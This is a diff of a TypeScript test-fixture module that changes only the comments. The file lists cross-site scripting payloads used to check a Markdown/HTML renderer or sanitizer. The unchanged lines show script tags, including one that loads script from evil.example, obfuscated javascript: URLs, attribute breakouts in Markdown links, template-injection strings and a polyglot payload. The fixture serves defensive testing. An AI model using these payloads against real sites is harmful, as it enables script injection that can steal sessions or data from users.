@@ -1,12 +1,12 @@
 /**
- * Texts that would run as a script, if anything took them for markup. Each calls `xss(n)` or `alert(n)`
- * with a number of its own, so that a test can say which one ran; addresses on evil.example tell of
- * requests. One line each, but for `blocks`, which are for texts of several lines.
+ * Texts that would run as a script if anything took them for markup. Each calls `xss(n)` or `alert(n)` with its own
+ * number, so a test can report which one ran. Addresses on evil.example reveal requests. Each is one line, except for
+ * `blocks`, which are for fields that allow several.
  */
 
 const loaded = 'src=https://img.example/x.png';
 
-/** Elements that run something by themselves, as soon as they are there. */
+/** Elements that run something on their own, as soon as they're there. */
 const elements = (run: string): string[] => [
   `<script>${run}</script>`,
   `<script src=//evil.example/x.js></script>`,
@@ -113,7 +113,7 @@ const elements = (run: string): string[] => [
   `<p id=content class=banner name=currentScript onclick=${run}>a</p>`,
 ];
 
-/** What would leave the place where a text stands: an attribute, an element, a comment, a script. */
+/** What would break out of the place where a text is: an attribute, an element, a comment or a script. */
 const leaving = [
   '"',
   "'",
@@ -147,7 +147,7 @@ const attributes = (run: string): string[] => [
   ]),
 ];
 
-/** Addresses that run something when they are followed. */
+/** Addresses that run something when they're followed. */
 const addresses = (run: string): string[] => [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -175,14 +175,14 @@ const addresses = (run: string): string[] => [
   `//evil.example/\tjavascript:${run}`,
 ];
 
-/** Ways in which an address stands in markdown or in HTML. */
+/** Ways to put an address in Markdown or HTML. */
 const links: readonly ((address: string) => string)[] = [
   (address) => `[a](${address})`,
   (address) => `[a](<${address}>)`,
   (address) => `<a href="${address}">a</a>`,
 ];
 
-/** Markdown that hides what stands in it, or that a careless parser puts together wrongly. */
+/** Markdown that hides its content, or that a careless parser puts together incorrectly. */
 const markdown = (run: string): string[] => [
   `[a](https://a.example "" onmouseover="${run}")`,
   `[a](https://a.example '" onmouseover="${run}')`,
@@ -212,7 +212,7 @@ const markdown = (run: string): string[] => [
   `&#x3c;img ${loaded} onerror=${run}&#x3e;`,
 ];
 
-/** What other languages than HTML would act on: templates, JSON, XML, old encodings. */
+/** What languages other than HTML would act on: templates, JSON, XML, old encodings. */
 const others = (run: string): string[] => [
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}}`,
@@ -237,7 +237,7 @@ const others = (run: string): string[] => [
   `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${run}//>`,
 ];
 
-/** Texts of several lines, for what takes them. */
+/** Texts of several lines, for fields that allow them. */
 const several = (run: string): string[] => [
   `[a]\n\n[a]: javascript:${run}`,
   `[a]: https://a.example '" onmouseover="${run}'\n\n[a]`,
@@ -260,7 +260,8 @@ const several = (run: string): string[] => [
 ];
 
 function numbered(make: (run: string) => string[], from: number): string[] {
-  // The functions behind the numbers differ: the page of a test has both, and an attribute without quotes takes either.
+  // Calls alternate between the two functions. Test pages have both, and an attribute without quotes can contain
+  // either.
   return make('xss(0)').map(
     (_, index) => make(`${(from + index) % 2 === 0 ? 'xss' : 'alert'}(${from + index})`)[index] ?? '',
   );
